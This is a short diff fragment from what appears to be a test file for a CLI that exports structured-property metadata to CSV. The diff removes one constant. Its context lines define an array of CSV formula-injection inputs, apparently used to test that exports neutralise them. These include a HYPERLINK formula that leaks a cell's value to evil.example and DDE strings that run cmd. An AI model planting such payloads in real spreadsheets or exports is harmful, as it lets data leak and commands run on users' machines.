@@ -18,7 +18,6 @@ let server: TestServer;
 let home: string;
 
 const NOTES = 'urn:li:structuredProperty:io.csv.notes';
-const WIDE = 'urn:li:structuredProperty:io.csv.wide';
 const dataset = (name: string) => `urn:li:dataset:(urn:li:dataPlatform:hive,csv.${name},PROD)`;
 const cli = (args: string[], env?: Record<string, string>): Promise<CliResult> => runCli(args, { home, server: server.url, ...(env ? { env } : {}) });
 const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|...', '\t=1+1', "'quoted already", 'plain'];
